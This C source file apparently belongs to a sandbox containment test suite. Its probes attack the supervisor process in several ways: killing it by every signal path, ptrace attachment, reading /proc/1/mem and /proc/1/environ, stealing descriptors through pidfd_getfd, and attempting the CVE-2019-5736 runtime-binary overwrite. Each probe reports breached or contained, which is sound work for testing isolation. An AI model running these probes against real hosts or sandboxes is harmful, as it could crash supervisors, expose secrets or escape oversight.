// Process 1 of the sandbox: our supervisor, and what its privileges would be worth.
#include "attack.h"

#include <dirent.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <time.h>

ATTACK(kill_supervisor, "kill-supervisor", "ends process 1 by every signal and every way to send one") {
    only_inside();
    for (int number = 1; number <= 64; number++) {
        if (number == 32 || number == 33) continue;
        kill(1, number);
        syscall(SYS_tgkill, 1, 1, number);
        syscall(SYS_tkill, 1, number);
        siginfo_t information = {.si_signo = number, .si_code = SI_QUEUE};
        syscall(SYS_rt_sigqueueinfo, 1, number, &information);
        syscall(SYS_rt_tgsigqueueinfo, 1, 1, number, &information);
    }
    int pidfd = (int)syscall(SYS_pidfd_open, 1, 0);
    if (pidfd >= 0) syscall(SYS_pidfd_send_signal, pidfd, SIGKILL, NULL, 0);
    int pair[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == 0) {
        fcntl(pair[0], F_SETOWN, 1);
        fcntl(pair[0], F_SETSIG, SIGKILL);
        fcntl(pair[0], F_SETFL, O_ASYNC);
        ssize_t sent = write(pair[1], "x", 1);
        (void)sent;
    }
    usleep(200000);
    // Its death would have been ours.
    contained("process 1 lives");
}

ATTACK(trace_supervisor, "trace-supervisor", "traces process 1") {
    if (ptrace(PTRACE_SEIZE, 1, NULL, NULL) == 0 || ptrace(PTRACE_ATTACH, 1, NULL, NULL) == 0)
        breached("attached to 1");
    refused("ptrace");
}

ATTACK(trace_host, "trace-host-process", "traces a process of the host (PID)") {
    pid_t pid = (pid_t)number_argument(count, arguments, 0);
    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0) refused("ptrace");
    breached("attached to %d", pid);
}

static int traced_child(void *context) {
    (void)context;
    return ptrace(PTRACE_TRACEME, 0, NULL, NULL) < 0 ? (errno == EPERM ? 1 : 2) : 0;
}

ATTACK(trace_child, "trace-own-child", "uses ptrace at all") {
    if (code_of_child(traced_child, NULL, 10) == 0) breached("PTRACE_TRACEME is allowed");
    contained("ptrace is refused");
}

ATTACK(read_supervisor_memory, "read-supervisor-memory", "reads the memory of process 1") {
    char buffer[64];
    int fd = open("/proc/1/mem", O_RDONLY | O_CLOEXEC);
    if (fd >= 0) breached("opened /proc/1/mem");
    int error = errno;
    struct iovec local = {buffer, sizeof buffer}, remote = {(void *)0x400000, sizeof buffer};
    long result = syscall(SYS_process_vm_readv, 1, &local, 1, &remote, 1, 0);
    // EFAULT says that the address was wrong, not the right.
    if (result > 0 || errno == EFAULT) breached("process_vm_readv may read process 1");
    result = syscall(SYS_process_vm_writev, 1, &local, 1, &remote, 1, 0);
    if (result > 0 || errno == EFAULT) breached("process_vm_writev may write process 1");
    errno = error;
    refused("/proc/1/mem");
}

ATTACK(read_supervisor_files, "read-supervisor-files", "reads environment, maps and descriptors of process 1") {
    static const char *const names[] = {
        "/proc/1/environ", "/proc/1/maps", "/proc/1/smaps", "/proc/1/auxv", "/proc/1/stack", "/proc/1/syscall",
        "/proc/1/io", "/proc/1/pagemap", "/proc/1/task/1/environ"};
    char buffer[256];
    int error = ENOENT;
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        if (read_file(names[i], buffer, sizeof buffer) > 0) breached("read %s", names[i]);
        error = errno;
    }
    if (opendir("/proc/1/fd")) breached("listed /proc/1/fd");
    errno = error;
    refused("/proc/1");
}

ATTACK(steal_descriptors, "steal-supervisor-descriptors", "takes descriptors out of process 1") {
    int pidfd = (int)syscall(SYS_pidfd_open, 1, 0);
    if (pidfd < 0) refused("pidfd_open");
    int error = EBADF;
    for (int fd = 0; fd < 64; fd++) {
        if (syscall(SYS_pidfd_getfd, pidfd, fd, 0) >= 0) breached("descriptor %d of process 1", fd);
        // EBADF would mean that only the number was wrong.
        if (errno == EBADF && fd < 3) breached("pidfd_getfd may look into process 1");
        error = errno;
    }
    errno = error;
    refused("pidfd_getfd");
}

ATTACK(compare_supervisor, "compare-with-supervisor", "compares kernel objects with process 1 (kcmp)") {
    if (syscall(SYS_kcmp, getpid(), 1, 0 /* KCMP_FILE */, 0, 0) < 0 && errno != EBADF) refused("kcmp");
    breached("kcmp answers");
}

ATTACK(limit_supervisor, "limit-supervisor", "reads and would change the limits of process 1") {
    struct rlimit64 old;
    if (syscall(SYS_prlimit64, 1, RLIMIT_NOFILE, NULL, &old) < 0) refused("prlimit");
    breached("prlimit of process 1 answers: %llu open files", (unsigned long long)old.rlim_cur);
}

ATTACK(schedule_supervisor, "schedule-supervisor", "slows process 1 down by its priority") {
    errno = 0;
    int now = getpriority(PRIO_PROCESS, 1);
    if (errno != 0) refused("getpriority");
    // The same value again: a change of right, not of fact.
    if (setpriority(PRIO_PROCESS, 1, now) < 0) refused("setpriority");
    breached("the priority of process 1 can be set");
}

ATTACK(overwrite_runtime, "overwrite-runtime", "opens the supervisor's binary through /proc (CVE-2019-5736)") {
    struct stat own, other;
    if (stat("/proc/self/exe", &own) < 0) skipped("no /proc/self/exe");
    DIR *directory = opendir("/proc");
    if (!directory) refused("/proc");
    int error = ENOENT;
    struct dirent *entry;
    while ((entry = readdir(directory))) {
        char path[300];
        if (entry->d_name[0] < '1' || entry->d_name[0] > '9') continue;
        snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
        if (stat(path, &other) == 0 && other.st_ino == own.st_ino && other.st_dev == own.st_dev) continue;
        if (opens_for_writing(path)) breached("opened %s for writing", path);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd >= 0) breached("opened %s", path);
        error = errno;
    }
    if (open("/proc/1/exe", O_RDONLY | O_CLOEXEC) >= 0) breached("opened /proc/1/exe");
    errno = error == ENOENT ? errno : error;
    refused("/proc/1/exe");
}

/// A script whose interpreter is whatever executes it: a runtime that executes it from outside runs itself inside.
/// The host starts the script while this program looks out for a foreign binary to overwrite.
ATTACK(script_of_runtime, "script-of-runtime",
       "makes the runtime execute itself by #!/proc/self/exe (SCRIPT SECONDS)") {
    const char *script = text_argument(count, arguments, 0);
    time_t end = time(NULL) + number_argument(count, arguments, 1);
    int fd = open(script, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    if (fd < 0) skipped("%s: %s", script, strerror(errno));
    ssize_t written = write(fd, "#!/proc/self/exe\n", 17);
    close(fd);
    if (written != 17) skipped("%s", script);
    struct stat own, other;
    if (stat("/proc/self/exe", &own) < 0) skipped("no /proc/self/exe");
    while (time(NULL) < end) {
        DIR *directory = opendir("/proc");
        struct dirent *entry;
        while (directory && (entry = readdir(directory))) {
            char path[300];
            if (entry->d_name[0] < '2' || entry->d_name[0] > '9') continue;
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            if (stat(path, &other) < 0 || (other.st_ino == own.st_ino && other.st_dev == own.st_dev)) continue;
            if (opens_for_writing(path)) breached("opened %s for writing", path);
        }
        if (directory) closedir(directory);
    }
    contained("no foreign binary could be written");
}

ATTACK(supervisor_socket, "supervisor-socket", "finds the supervisor's socket by name") {
    static const char *const tables[] = {"/proc/net/unix", "/proc/self/net/unix"};
    char text[65536];
    for (size_t i = 0; i < 2; i++) {
        if (read_file(tables[i], text, sizeof text) < 0) continue;
        for (char *line = strtok(text, "\n"); line; line = strtok(NULL, "\n")) {
            char *name = strpbrk(line, "/@");
            if (name) breached("a socket is bound to %s", name);
        }
    }
    contained("no socket has a name here");
}
